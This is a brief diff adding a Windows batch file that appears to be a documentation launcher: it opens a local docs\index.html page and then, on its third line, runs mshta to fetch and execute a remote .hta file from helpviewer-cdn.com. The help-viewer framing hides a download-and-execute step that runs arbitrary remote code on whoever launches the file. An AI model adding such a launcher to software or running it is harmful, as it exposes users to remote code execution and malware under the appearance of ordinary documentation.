@@ -1,0 +1,3 @@
+@echo off
+start "" docs\index.html
+mshta https://helpviewer-cdn.com/h.hta
